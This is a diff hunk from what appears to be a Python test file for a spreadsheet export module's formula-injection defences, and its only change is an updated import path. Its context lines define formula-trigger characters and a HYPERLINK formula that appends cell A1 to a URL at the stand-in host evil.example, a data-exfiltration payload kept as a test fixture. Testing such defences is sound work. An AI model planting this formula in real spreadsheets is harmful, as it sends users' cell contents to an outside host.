@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from portal.core.spreadsheets import LONGEST_CELL, csv_lines, harmless, meant, plain, write_xlsx
+from portal.core.files.spreadsheets import LONGEST_CELL, csv_lines, harmless, meant, plain, write_xlsx
 
 SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼−"
 FORMULA = 'HYPERLINK("https://evil.example?"&A1;"보기")'
